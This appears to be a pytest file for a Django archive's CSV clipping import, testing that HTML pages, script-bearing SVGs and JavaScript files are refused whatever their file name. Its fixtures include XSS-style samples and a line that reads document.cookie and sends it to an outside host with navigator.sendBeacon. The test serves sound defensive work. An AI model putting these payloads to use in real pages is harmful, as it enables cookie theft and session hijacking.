"""The clipping import takes CSV by content: a web page or a script is refused whatever its name."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from archive.models import Clipping

HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/cuenta/')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
SCRIPT = b"let data = document.cookie;\nnavigator.sendBeacon('https://example.org', data);\n"


@pytest.mark.parametrize(("name", "content"), [("recortes.csv", HTML_PAGE), ("recortes.csv", SVG), ("x.js", SCRIPT)])
def test_a_page_or_script_is_refused_by_the_clipping_import(client, gabinete_user, name, content):
    client.force_login(gabinete_user)
    response = client.post(reverse("archive:import"), {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert "contiene una página web o código" in response.text
    assert Clipping.objects.count() == 0
